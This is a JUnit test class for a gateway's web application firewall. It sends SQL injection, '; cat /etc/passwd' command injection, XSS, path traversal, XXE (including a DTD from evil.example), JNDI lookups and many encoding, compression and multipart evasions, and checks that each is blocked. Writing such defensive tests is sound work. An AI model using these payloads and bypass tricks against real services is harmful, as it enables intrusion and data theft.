package gatehouse.plugin.waf;

import static org.assertj.core.api.Assertions.assertThat;

import gatehouse.gateway.Origin;
import gatehouse.gateway.RawHttp;
import gatehouse.gateway.TestGate;
import gatehouse.plugin.Plugins;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Known attacks in every disguise that some service undoes, through a running gateway with the
/// baseline: none may reach the service.
class BypassTest {
  private static final String SQL = "1' OR '1'='1' --";
  private static final String SHELL = "; cat /etc/passwd";

  private static Origin origin;
  private static TestGate gate;

  @BeforeAll
  static void start() throws Exception {
    origin = Origin.answering(Origin.OK);
    gate =
        TestGate.with(
            Plugins.CATALOGUE_CLASSES,
            origin.yaml() + "plugins:\n- {name: waf, config: {request_body_limit: 65536}}\n");
  }

  @AfterAll
  static void stop() throws Exception {
    gate.close();
    origin.close();
  }

  private static int status(String request) throws Exception {
    try (RawHttp client = gate.connect()) {
      return client.send(request).read().status();
    }
  }

  /// `~` stands for CRLF in the fields.
  private static int post(String fields, String body) throws Exception {
    return status(
        "POST /a HTTP/1.1\r\nHost: a.example\r\nUser-Agent: Mozilla/5.0\r\n"
            + fields.replace("~", "\r\n")
            + (fields.isEmpty() ? "" : "\r\n")
            + "Content-Length: "
            + body.length()
            + "\r\n\r\n"
            + body);
  }

  private static void isRefused(int status) throws InterruptedException {
    if (status == 200) {
      origin.next();
    }
    assertThat(status).isBetween(400, 499);
    assertThat(origin.waiting()).isZero();
  }

  private static String percent(String text, String charset) {
    StringBuilder out = new StringBuilder();
    for (byte b : text.getBytes(Charset.forName(charset))) {
      out.append(String.format("%%%02x", b & 0xff));
    }
    return out.toString();
  }

  private static String raw(String text, String charset) {
    return new String(text.getBytes(Charset.forName(charset)), StandardCharsets.ISO_8859_1);
  }

  @Test
  void what_is_harmless_passes() throws Exception {
    assertThat(post("Content-Type: application/x-www-form-urlencoded", "q=hello")).isEqualTo(200);
    assertThat(post("", "hello")).isEqualTo(200);
    assertThat(post("Content-Type: text/plain", "[draft] see {a} and <b>")).isEqualTo(200);
    assertThat(post("Content-Type: text/csv", "name;id;city\nAlice;7;Berlin\n")).isEqualTo(200);
    assertThat(post("Content-Type: application/octet-stream", "\0\1\2;id;\377")).isEqualTo(200);
    assertThat(post("Content-Type: application/json; charset=utf-8", "{\"q\": 1}")).isEqualTo(200);
    assertThat(post("Content-Type: application/graphql", "{ user(id: \"4\") { name } }"))
        .isEqualTo(200);
    for (int i = 0; i < 7; i++) {
      origin.next();
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "Content-Type: ",
        "Content-Type: text/plain",
        "Content-Type: application/octet-stream",
        "Content-Type: image/png",
        "Content-Type: x",
        "Content-Type: application/graphql",
        "Content-Type: application/jsonp",
        "Content-Type: text/javascript",
        "Content-Type: text/plain, application/json",
        "Content-Type: application/x-www-form-urlencoded",
        "Content-Type: application/json~Content-Type: text/plain",
        "Content-Type: text/plain~Content-Type: application/json",
        "Content-Type: APPLICATION/JSON;;",
        "content-type:application/json\t",
        "Content-Type: application/vnd.api+json; v=1",
      })
  void a_document_is_looked_at_whatever_its_type_says(String type) throws Exception {
    isRefused(post(type, "{\"q\": \"\\u003b cat \\/etc\\/passwd\"}"));
    isRefused(post(type, " \n[[\"1\\u0027 OR \\u00271\\u0027=\\u00271\"]]"));
    isRefused(post(type, "\u00ef\u00bb\u00bf{\"q\": \"; cat /etc/passwd\"}"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "Content-Type: text/plain",
        "Content-Type: application/octet-stream",
        "Content-Type: application/x-www-form-urlencoded",
        "Content-Type: application/x-www-form-urlencoded; charset=utf-8",
        "Content-Type: Application/X-WWW-Form-Urlencoded ; a=b",
      })
  void a_form_is_looked_at_whatever_its_type_says(String type) throws Exception {
    isRefused(post(type, "a=1&q=%3b+cat+%2fetc%2fpasswd"));
    isRefused(post(type, "q%5b%5d=" + percent(SQL, "UTF-8")));
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "Content-Type: text/plain", "Content-Type: application/xml"})
  void xml_is_looked_at_whatever_its_type_says(String type) throws Exception {
    isRefused(post(type, "<a>; cat /etc/passwd</a>"));
    isRefused(post(type, "<a b='; cat /etc/passwd'/>"));
    isRefused(post(type, "<a><![CDATA[; cat /etc/pass]]><![CDATA[wd]]></a>"));
    isRefused(post(type, "<a>&#59; cat &#x2f;etc/passwd</a>"));
    isRefused(post(type, "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><a>&x;</a>"));
    isRefused(post(type, "<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a/>"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"UTF-16LE", "UTF-16BE", "UTF-16", "IBM037", "UTF-32"})
  void xml_in_another_charset_is_looked_at(String charset) throws Exception {
    String xml =
        "<?xml version=\"1.0\" encoding=\""
            + charset
            + "\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><a>&x;</a>";
    isRefused(post("Content-Type: application/xml", raw(xml, charset)));
    isRefused(post("Content-Type: application/xml; charset=" + charset, raw(xml, charset)));
    String text = "<?xml version=\"1.0\" encoding=\"" + charset + "\"?><a>" + SHELL + "</a>";
    isRefused(post("Content-Type: text/xml", raw(text, charset)));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "application/x-www-form-urlencoded; charset=ibm037",
        "application/x-www-form-urlencoded;charset=\"IBM500\"",
        "application/x-www-form-urlencoded; a=b; charset = ibm037",
        "multipart/form-data; charset=ibm037; boundary=b",
        "multipart/form-data; boundary=b; charset=utf-16",
        "application/json; charset=utf-16",
        "application/json; charset=utf-7",
        "text/xml; charset=utf-7",
        "application/x-www-form-urlencoded; charset=utf-8; charset=ibm037",
        "application/x-www-form-urlencoded; charset*=ibm037''x",
      })
  void a_charset_that_the_rules_do_not_read_is_refused(String type) throws Exception {
    isRefused(post("Content-Type: " + type, percent("q", "IBM037") + "=" + percent(SQL, "IBM037")));
  }

  private static String form(String... parts) {
    StringBuilder body = new StringBuilder();
    for (String part : parts) {
      body.append("--b\r\n").append(part.replace("~", "\r\n")).append("\r\n");
    }
    return body.append("--b--\r\n").toString();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Content-Disposition: form-data; name=\"q\"~~; cat /etc/passwd",
        "Content-Disposition: form-data; name=q; filename=\"\"~~; cat /etc/passwd",
        "Content-Disposition: form-data; name=q; filename=~~; cat /etc/passwd",
        "Content-Disposition: form-data; name=q; filename*=utf-8''a.txt~~; cat /etc/passwd",
        "Content-Disposition: form-data; filename=a.txt; name=q; name=q~~; cat /etc/passwd",
        "Content-Disposition: form-data; name=q; x=filename=a~~; cat /etc/passwd",
        "Content-Disposition: form-data; name=q; \"filename=a\"~~; cat /etc/passwd",
        "Content-Disposition: attachment; name=q~~; cat /etc/passwd",
        "Content-Disposition: form-data; name=q~Content-Transfer-Encoding:"
            + " base64~~OyBjYXQgL2V0Yy9wYXNzd2Q=",
        "Content-Disposition: form-data; name=q~Content-Transfer-Encoding: quoted-printable~~=3b"
            + " cat =2fetc/passwd",
        "Content-Disposition: form-data; name=q~Content-Type: text/plain; charset=utf-7~~+ADs- cat"
            + " /etc/passwd",
        "Content-Disposition: form-data; name=q~Content-Type: text/plain; charset=ibm037~~xx",
        "Content-Disposition: form-data; name=\"_charset_\"~~ibm037",
        "Content-Disposition: form-data; name=\"; cat /etc/passwd\"~~x",
        "Content-Disposition: form-data; name=f; filename=\"a;.php\"~~x",
        "Content-Disposition: form-data; name=f; filename=\"a.png\\\"; name=\\\"x.php\"~~x",
        "Content-Disposition: form-data; name=f; filename=a.png; filename*=utf-8''a.php~~x",
        "Content-Disposition: form-data; name=f; filename=\"a.php \"~~x",
        "Content-Disposition: form-data; name=f; filename=\" a.php\"~~x",
        "Content-Disposition: form-data; name=f; filename=\"a.php.\"~~x",
        "Content-Disposition: form-data; name=f; filename=\"a.pHp\"~~x",
        "Content-Disposition: form-data; name=f; filename=\"../../../etc/cron.d/x\"~~x",
        "Content-Disposition: form-data; name=f; filename=\"<script>alert(1)</script>.png\"~~x",
        " Content-Disposition: form-data; name=q~~; cat /etc/passwd",
        "Content-Disposition:~ form-data; name=q~~; cat /etc/passwd",
        "content-disposition: form-data; name=q~content-disposition: form-data; name=f;"
            + " filename=a~~; cat /etc/passwd",
      })
  void a_part_is_looked_at_as_any_service_might_read_it(String part) throws Exception {
    isRefused(post("Content-Type: multipart/form-data; boundary=b", form(part)));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "multipart/form-data; boundary=x; boundary=b",
        "multipart/form-data; boundary=b; boundary=x",
        "multipart/form-data; boundary*0=b",
        "multipart/form-data; boundary=x; boundary*=us-ascii''b",
        "multipart/form-data; Boundary=b; boundary=x",
        "multipart/form-data; x=\"; boundary=x\"; boundary=b",
        "multipart/form-data, boundary=b",
        "multipart/form-data boundary=b",
        "multipart/form-data; boundary=\"b",
        "multipart/form-data; boundary=b ",
        "multipart/mixed; boundary=b",
        "multipart/related; boundary=b",
        "Multipart/Form-Data; boundary=b",
      })
  void the_boundary_is_read_as_any_service_might_read_it(String type) throws Exception {
    String part = "Content-Disposition: form-data; name=\"q\"~~; cat /etc/passwd";
    isRefused(post("Content-Type: " + type, form(part)));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"q\": 1, \"q\": \"; cat /etc/passwd\"}",
        "{\"q\": \"; cat /etc/passwd\", \"q\": 1}",
        "{/**/\"q\": \"; cat /etc/passwd\"}",
        "{\"q\": \"; cat /etc/passwd\",}",
        "{'q': '; cat /etc/passwd'}",
        "{q: \"; cat /etc/passwd\"}",
        "{\"q\": \"; cat /etc/pass\\u0000wd\"}",
        "{\"; cat /etc/passwd\": 1}",
        "{\"q\": \"\\u003b\\u0020cat\\u0020/etc/passwd\"}",
        "{\"q\": \"\\uff1cscript\\uff1ealert(1)\\uff1c/script\\uff1e\"}",
        "{\"q\": 1}{\"q\": \"; cat /etc/passwd\"}",
        "{\"q\": 1}\n{\"q\": \"; cat /etc/passwd\"}",
        "NaN",
      })
  void json_is_read_as_any_service_might_read_it(String json) throws Exception {
    isRefused(post("Content-Type: application/json", json));
  }

  private interface Coder {
    java.io.OutputStream over(java.io.OutputStream out) throws IOException;
  }

  private static String coded(String text, Coder coder) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (var coding = coder.over(out)) {
      coding.write(text.getBytes(StandardCharsets.ISO_8859_1));
    }
    return out.toString(StandardCharsets.ISO_8859_1);
  }

  @Test
  void compressed_bodies_are_looked_at() throws Exception {
    String form = "a=1&q=%3b+cat+%2fetc%2fpasswd";
    String type = "Content-Type: application/x-www-form-urlencoded~";
    String gzip = coded(form, GZIPOutputStream::new);
    isRefused(post(type + "Content-Encoding: gzip", gzip));
    isRefused(post(type + "Content-Encoding: x-GZip", gzip));
    isRefused(post(type + "Content-Encoding: identity, gzip", gzip));
    isRefused(post(type + "Content-Encoding: ~Content-Encoding: gzip", gzip));
    isRefused(post(type + "Content-Encoding: gzip, gzip", coded(gzip, GZIPOutputStream::new)));
    isRefused(post(type + "Content-Encoding: gzip, aes128gcm", gzip));
    isRefused(post(type + "Content-Encoding: gzip;q=1", gzip));
    isRefused(post(type + "Content-Encoding: deflate", coded(form, DeflaterOutputStream::new)));
    isRefused(
        post(
            type + "Content-Encoding: deflate",
            coded(form, o -> new DeflaterOutputStream(o, new java.util.zip.Deflater(6, true)))));
    // Two members are one text (RFC 1952, section 2.2).
    isRefused(post(type + "Content-Encoding: gzip", coded("a=1&", GZIPOutputStream::new) + gzip));
  }

  @Test
  void how_a_body_is_cut_into_chunks_changes_nothing() throws Exception {
    String head =
        "POST /a HTTP/1.1\r\nHost: a.example\r\nUser-Agent: Mozilla/5.0\r\n"
            + "Content-Type: application/x-www-form-urlencoded\r\n"
            + "Transfer-Encoding: chunked\r\n\r\n";
    StringBuilder body = new StringBuilder();
    String form = "q=%3b+cat+%2fetc%2fpasswd";
    for (int i = 0; i < form.length(); i++) {
      body.append("1;x=\"y\"\r\n").append(form.charAt(i)).append("\r\n");
    }
    isRefused(status(head + body + "0\r\n\r\n"));
    isRefused(status(head + body + "0\r\nX-T: 1\r\n\r\n"));
  }

  @Test
  void nothing_hides_behind_a_limit() throws Exception {
    String type = "Content-Type: application/x-www-form-urlencoded";
    isRefused(post(type, "a=" + "x".repeat(65_536) + "&q=%3b+cat+%2fetc%2fpasswd"));
    isRefused(post(type, "a=&".repeat(2_000) + "q=%3b+cat+%2fetc%2fpasswd"));
    isRefused(
        status(
            "GET /?"
                + "a=&".repeat(2_000)
                + "q=%3b+cat+%2fetc%2fpasswd HTTP/1.1\r\nHost: a\r\n\r\n"));
    String json = "[".repeat(600) + "\"; cat /etc/passwd\"" + "]".repeat(600);
    isRefused(post("Content-Type: application/json", json));
  }

  @Test
  void json_as_deep_as_the_limit_allows_is_read() throws Exception {
    String json = "[".repeat(511) + "\"%s\"" + "]".repeat(511);
    isRefused(post("Content-Type: application/json", json.formatted(SHELL)));
    assertThat(post("Content-Type: application/json", json.formatted("hello"))).isEqualTo(200);
    origin.next();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/a?q=%3b+cat+%2fetc%2fpasswd#x",
        "/a#?q=;cat",
        "/a?q=%253b+cat+%252fetc%252fpasswd",
        "/a?q=1%27/**/OR/**/1=1--",
        "/a?q=1%27%0aOR%0a1=1--%20",
        "/a?q=UNI/**/ON/**/SEL/**/ECT&b=1%27%20union%a0select%201",
        "/a?q=%u003cscript%u003ealert(1)",
        "/a?q=%00%3cscript%3e",
        "/a?q=%3cscr%00ipt%3ealert(1)",
        "/a?q=%ef%bc%9cscript%ef%bc%9ealert(1)",
        "/a?q=%26lt;script%26gt;alert(1)",
        "/a?q=%3csvg/onload=alert(1)%3e",
        "/a?q=%3cIMG%09SRC=x%0aONERROR=alert(1)%3e",
        "/a?q=java%09script:alert(1)//%3ca%20href=",
        "/a?q=%24(cat%20/etc/passwd)",
        "/a?q=%60cat%20/etc/passwd%60",
        "/a?q=%7ccat%24IFS/etc/passwd",
        "/a?q=%0acat%20/e%27%27tc/pas%5cswd",
        "/a?q=..%5c..%5c..%5cwindows%5cwin.ini",
        "/a?q=....//....//....//etc/passwd",
        "/a?q=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "/a?q[]=x&q[%3b cat /etc/passwd]=1",
        "/a?%3b+cat+%2fetc%2fpasswd",
        "/a?a=1;q=%3cscript%3ealert(1)",
        "/a/%3cscript%3ealert(1)%3c%2fscript%3e",
        "/a/1%27%20OR%20%271%27=%271",
        "/a/%24%7bjndi:ldap:%2f%2fx%7d",
        "/a/x%20%7c%20cat%20etc",
        "http://a.example/a?q=%3b+cat+%2fetc%2fpasswd",
      })
  void a_target_is_read_as_any_service_might_read_it(String target) throws Exception {
    isRefused(
        status(
            "GET " + target + " HTTP/1.1\r\nHost: a.example\r\nUser-Agent: Mozilla/5.0\r\n\r\n"));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '¦',
      value = {
        "Cookie ¦ a=1; q=%3b cat /etc/passwd",
        "Cookie ¦ q=\"\\047 OR \\0471\\047=\\0471\"",
        "Cookie ¦ q=\"\\073 cat /etc/passwd\"",
        "Cookie ¦ $Version=1; q=\"1' OR '1'='1\"",
        "Cookie ¦ 1' OR '1'='1' --=x",
        "X-Forwarded-For ¦ 1' OR '1'='1' --",
        "X-Forwarded-Host ¦ a.example\"><script>alert(1)</script>",
        "X-Custom ¦ 1' UNION SELECT password FROM users--",
        "X-Custom ¦ <script>alert(1)</script>",
        "X-Custom ¦ ; cat /etc/passwd",
        "X-Custom ¦ $(cat /etc/passwd)",
        "X-Custom ¦ ../../../../etc/passwd",
        "Referer ¦ http://a.example/?q=<script>alert(1)</script>",
        "User-Agent ¦ 1' OR '1'='1' --",
        "Authorization ¦ ${jndi:ldap://x/a}",
        "Accept-Language ¦ {{7*7}}${jndi:dns://x}",
        "X-Original-URL ¦ /admin?q=<script>alert(1)</script>",
      })
  void a_field_is_looked_at(String name, String value) throws Exception {
    isRefused(
        status(
            "GET /a HTTP/1.1\r\nHost: a.example\r\n"
                + (name.equals("User-Agent") ? "" : "User-Agent: Mozilla/5.0\r\n")
                + name
                + ": "
                + value
                + "\r\n\r\n"));
  }

  /// What browsers and clients send of themselves.
  @Test
  void usual_fields_pass() throws Exception {
    List<String> fields =
        List.of(
            "Sec-CH-UA: \"Chromium\";v=\"140\", \"Not=A?Brand\";v=\"24\"",
            "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            "If-None-Match: W/\"abc-1\", \"x--y\"",
            "Cookie: a=\"x\\054y\\073 z\"; _ga=GA1.2.3; s=eyJhbGciOiJIUzI1NiJ9.e30.x-_",
            "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.e30.c2ln",
            "Referer: https://a.example/search?q=O%27Brien&x=1%20or%202",
            "X-Forwarded-For: 192.0.2.1, 10.0.0.1",
            "Forwarded: for=\"[2001:db8::1]:4711\";proto=https;by=203.0.113.43",
            "Content-Security-Policy: default-src 'self'; script-src 'none'",
            "Link: </style.css>; rel=preload; as=style",
            "traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
            "baggage: userId=alice,serverNode=DF%2028,isProduction=false",
            "Prefer: respond-async, wait=10; handling=lenient",
            "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0");
    assertThat(
            status(
                "GET /a HTTP/1.1\r\nHost: a.example\r\n"
                    + String.join("\r\n", fields)
                    + "\r\n\r\n"))
        .isEqualTo(200);
    origin.next();
  }
}
